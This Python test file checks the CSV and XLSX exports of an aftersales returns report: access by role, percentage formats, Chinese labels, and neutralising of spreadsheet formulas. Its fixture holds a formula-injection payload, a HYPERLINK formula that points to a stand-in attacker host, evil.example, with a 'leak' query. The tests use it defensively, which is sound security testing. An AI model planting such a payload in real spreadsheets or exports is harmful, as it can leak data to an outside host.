"""The returns report exports like the refund report: CSV per table, XLSX with them all."""

from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, time

import httpx
import openpyxl
import pytest

from aftersales.core import clock
from aftersales.core.models import Role
from aftersales.core.periods import Period
from aftersales.returns.report import return_report
from tests.conftest import sign_in
from tests.factories import create_hostile_shop, create_user
from tests.refunds.test_service import NOW

pytestmark = pytest.mark.usefixtures("clean_db")
FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'
CSV_TABLES = ("summary", "reason", "shipping", "products")


async def hostile_returns(client: httpx.AsyncClient) -> None:
    """A shop whose products are titled like a formula, with return cases."""
    clock.travel(NOW - clock.now())
    await create_hostile_shop(now=NOW, text=FORMULA)
    await create_user(username="owner", role=Role.OWNER)
    await sign_in(client, "owner")


async def test_the_page_links_its_exports_and_every_table_downloads(
    client: httpx.AsyncClient, app
) -> None:
    await hostile_returns(client)
    page = (await client.get("/returns/report")).text
    assert "/returns/report.xlsx?from=" in page
    for table in CSV_TABLES:
        assert f"/returns/report/{table}.csv?from=" in page
        answer = await client.get(f"/returns/report/{table}.csv")
        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
        assert "attachment" in answer.headers["content-disposition"]
    assert (await client.get("/returns/report/nothing.csv")).status_code == 404
    agent = await create_user(username="agent", role=Role.AGENT)
    await sign_in(client, agent.username)
    assert (await client.get("/returns/report.xlsx")).status_code in (302, 303, 403)


async def test_the_xlsx_has_rates_as_percentages_and_titles_as_text(
    client: httpx.AsyncClient, app
) -> None:
    await hostile_returns(client)
    answer = await client.get("/returns/report.xlsx")
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    assert book.sheetnames == ["Summary", "By reason", "Return shipping",
                               "Products most often sent back"]  # fmt: skip
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    products = list(book["Products most often sent back"].iter_rows(min_row=2))
    assert products, "the hostile shop has goods sent back"
    assert any(FORMULA in str(r[0].value) and r[0].data_type == "s" for r in products)
    for row in products:
        assert all(isinstance(c.value, int) for c in row[1:4]), "counts are numbers"
        if row[4].value is not None:
            assert isinstance(row[4].value, float) and row[4].number_format == "0.0%"
    summary = {r[0].value: r[1] for r in book["Summary"].iter_rows(min_row=2)}
    rate = summary["Return rate (units)"]
    assert isinstance(rate.value, float) and 0 < rate.value <= 1 and rate.number_format == "0.0%"
    assert summary["Exchange price differences"].number_format == "0.00"
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(sheet.column_dimensions[c.column_letter].width >= 8 for c in sheet[1])


async def test_the_csv_rounds_the_rate_and_adds_up(client: httpx.AsyncClient, app) -> None:
    await hostile_returns(client)
    page = (await client.get("/returns/report")).text
    first, last = re.search(r'name="from" value="([^"]+)".*?name="to" value="([^"]+)"', page,
                            re.DOTALL).groups()  # fmt: skip

    async def rows_of(table: str) -> list[list[str]]:
        answer = await client.get(f"/returns/report/{table}.csv")
        return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))

    summary = {r[0]: r[1] for r in (await rows_of("summary"))[1:]}
    assert re.fullmatch(r"\d+\.\d%", summary["Return rate (units)"])
    reasons = (await rows_of("reason"))[1:]
    assert sum(int(r[1]) for r in reasons) == int(summary["Return and exchange cases"])
    products = (await rows_of("products"))[1:]
    assert any(r[0].startswith("'" + FORMULA) for r in products)
    assert all(re.fullmatch(r"(\d+\.\d%)?", r[4]) for r in products)
    zone = app.state.settings.zone
    start = datetime.combine(date.fromisoformat(first), time(), tzinfo=zone)
    end = datetime.combine(date.fromisoformat(last), time.max, tzinfo=zone)
    report = await return_report(Period(start, end))
    assert int(summary["Return and exchange cases"]) == report.cases


async def test_the_export_speaks_chinese(client: httpx.AsyncClient, app) -> None:
    await hostile_returns(client)
    zh = {"Accept-Language": "zh-CN"}
    book = openpyxl.load_workbook(
        io.BytesIO((await client.get("/returns/report.xlsx", headers=zh)).content)
    )
    assert book.sheetnames[0] == "汇总" and "按原因" in book.sheetnames
    summary = [r[0].value for r in book["汇总"].iter_rows(min_row=1)]
    assert summary[0] == "指标" and "退货率（件数）" in summary and "售出件数" in summary
    assert "退货" in summary and "退换货" not in summary, "returns as 退货 beside 换货"
    page = (await client.get("/returns/report", headers=zh)).text
    assert re.search(r'<span class="label">退货</span>', page), "the tile, too"
    products = (await client.get("/returns/report/products.csv", headers=zh)).content
    header = next(csv.reader(io.StringIO(products.decode("utf-8-sig"))))
    assert header == ["商品", "售出", "退货", "换货", "退换率"]
    reasons = list(csv.reader(io.StringIO(
        (await client.get("/returns/report/reason.csv", headers=zh)).content.decode("utf-8-sig")
    )))  # fmt: skip
    assert reasons[0] == ["原因", "工单数"]
    assert all(not re.fullmatch(r"[a-z_]+", r[0]) for r in reasons[1:]), "reasons in words"
